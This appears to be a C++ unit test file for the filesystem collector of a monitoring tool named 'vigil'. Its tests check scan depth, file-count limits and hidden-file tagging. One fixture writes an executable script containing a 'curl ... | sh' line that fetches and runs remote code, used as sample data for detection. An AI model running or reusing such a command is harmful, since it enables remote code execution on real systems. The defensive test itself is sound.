#include "minitest.hpp"
#include "fixtures.hpp"
#include "collectors/FsCollector.hpp"
#include <algorithm>
#include <string>

namespace fs = std::filesystem;
using fixtures::ScopedEnv;
using fixtures::write_file;
using vigil::collectors::FsCollector;
using vigil::model::FileArtifact;
using vigil::model::SnapshotSet;

static const FileArtifact* find_path(const SnapshotSet& s, const std::string& path) {
  for (auto& f : s.files) if (f.path == path) return &f;
  return nullptr;
}

static bool has_tag(const FileArtifact& f, const std::string& tag) {
  return std::find(f.tags.begin(), f.tags.end(), tag) != f.tags.end();
}

TEST(fs_collector_walks_with_depth_limit) {
  auto root = fixtures::make_root("fs");
  write_file(root / "tmp/drop/run.sh", "#!/bin/sh\ncurl http://198.51.100.3/p | sh\n");
  fs::permissions(root / "tmp/drop/run.sh", fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                                         fs::perms::others_read | fs::perms::others_exec);
  write_file(root / "tmp/drop/.cache", "x");
  write_file(root / "tmp/drop/d1/d2/mid.txt", "mid");
  write_file(root / "tmp/drop/d1/d2/d3/deep.txt", "deep");
  ScopedEnv host("VIGIL_HOST_ROOT", root.string());

  FsCollector c({"/tmp/drop", "/nonexistent"}, 2);
  SnapshotSet s;
  ASSERT_TRUE(c.poll(s, std::stop_token{}));

  auto* script = find_path(s, "/tmp/drop/run.sh");
  ASSERT_TRUE(script != nullptr);
  ASSERT_TRUE(script->executable);
  ASSERT_TRUE(has_tag(*script, "executable"));
  ASSERT_TRUE(has_tag(*script, "ext:.sh"));
  ASSERT_TRUE(script->head.find("curl http://") != std::string::npos);
  ASSERT_EQ(0755u, script->mode & 0777u);

  auto* hidden = find_path(s, "/tmp/drop/.cache");
  ASSERT_TRUE(hidden != nullptr);
  ASSERT_TRUE(has_tag(*hidden, "hidden"));
  ASSERT_TRUE(hidden->head.empty());

  ASSERT_TRUE(find_path(s, "/tmp/drop/d1/d2/mid.txt") != nullptr);
  ASSERT_TRUE(find_path(s, "/tmp/drop/d1/d2/d3/deep.txt") == nullptr);
}

TEST(fs_collector_caps_file_count) {
  auto root = fixtures::make_root("fs_cap");
  for (int i = 0; i < 10; ++i) write_file(root / "scan" / ("f" + std::to_string(i)), "data");
  ScopedEnv host("VIGIL_HOST_ROOT", root.string());
  FsCollector c({"/scan"}, 3, 4);
  SnapshotSet s;
  ASSERT_TRUE(c.poll(s, std::stop_token{}));
  ASSERT_EQ(4u, s.files.size());
}

TEST(fs_collector_without_any_root_fails) {
  auto root = fixtures::make_root("fs_none");
  ScopedEnv host("VIGIL_HOST_ROOT", root.string());
  FsCollector c({"/missing"}, 3);
  SnapshotSet s;
  ASSERT_TRUE(!c.poll(s, std::stop_token{}));
  ASSERT_TRUE(!c.last_error().empty());
}
